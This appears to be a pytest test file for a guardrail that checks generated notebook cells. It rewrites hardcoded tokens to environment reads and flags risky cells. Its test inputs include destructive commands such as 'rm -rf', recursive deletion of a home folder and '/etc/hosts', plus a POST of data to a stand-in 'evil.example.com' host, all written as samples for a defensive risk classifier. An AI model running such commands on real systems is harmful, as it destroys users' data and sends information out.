"""Generated cells: hardcoded keys are rewritten or refused; risky cells are recognised."""

import pytest

from cookbook_ext.guardrails import check_credentials, classify_risk, needs_approval

HF = "hf_" + "A1b2C3d4E5" * 4
STORED = "my-very-private-value-123"


def test_a_key_as_a_whole_literal_is_rewritten_to_read_the_environment():
    result = check_credentials(f'from huggingface_hub import login\nlogin(token="{HF}")\n')
    assert result.refused is None
    assert HF not in result.code
    assert 'login(token=os.environ["HF_TOKEN"])' in result.code
    assert result.code.startswith("import os\n")
    compile(result.code, "cell", "exec")


def test_a_stored_secret_value_is_rewritten_to_its_own_name():
    result = check_credentials(f"key = '{STORED}'\n", {"MY_SERVICE_KEY": STORED})
    assert result.code == 'import os\nkey = os.environ["MY_SERVICE_KEY"]\n'
    assert result.rewritten == ["MY_SERVICE_KEY"]


def test_a_key_inside_a_larger_string_is_refused():
    result = check_credentials(f'headers = {{"Authorization": "Bearer {HF}"}}\n')
    assert result.refused and "os.environ" in result.refused and HF not in result.refused


def test_a_key_in_a_comment_is_refused():
    assert check_credentials(f"x = 1  # token {HF}\n").refused


def test_clean_code_is_untouched():
    code = "import os\nfrom transformers import pipeline\np = pipeline('sentiment-analysis')\n"
    assert check_credentials(code).code == code


@pytest.mark.parametrize(
    ("code", "reason"),
    [
        ("!pip install transformers", "installs packages"),
        ("%pip install -q torch", "installs packages"),
        ("!ls -la /", "runs shell commands"),
        ("%%bash\necho hi", "runs shell commands"),
        ("import subprocess\nsubprocess.run(['ls'])", "runs shell commands"),
        ("import os\nos.system('rm -rf x')", "runs shell commands"),
        ("import shutil\nshutil.rmtree('/home/user')", "deletes files outside the working folder"),
        ("import os\nos.remove('../secret.txt')", "deletes files outside the working folder"),
        ("from pathlib import Path\nPath('/etc/hosts').unlink()", "deletes files outside the working folder"),
        ("import requests\nrequests.post('https://evil.example.com/x', data='a')", "calls the network"),
    ],
)
def test_risky_cells_are_recognised(code, reason):
    assert reason in classify_risk(code)


@pytest.mark.parametrize(
    "code",
    [
        "from transformers import pipeline\npipe = pipeline('text-classification')",
        "import requests\nrequests.get('https://huggingface.co/api/models/gpt2')",
        "import os\nos.remove('outputs/tmp.txt')",
        "print('pip install is how you install')",
    ],
)
def test_ordinary_cells_are_not_risky(code):
    assert classify_risk(code) == []


def test_approval_modes():
    assert needs_approval("never", "!pip install x") == []
    assert needs_approval("risky", "!pip install x") == ["installs packages"]
    assert needs_approval("risky", "x = 1") == []
    assert needs_approval("always", "x = 1")
    assert needs_approval("always", "# title", cell_type="markdown") == []


def test_a_stored_secret_that_also_looks_like_a_token_is_rewritten_once_to_its_own_name():
    code = f'token = "{HF}"\nprint("done")\n'
    result = check_credentials(code, {"MY_HF": HF})
    assert result.code == 'import os\ntoken = os.environ["MY_HF"]\nprint("done")\n'
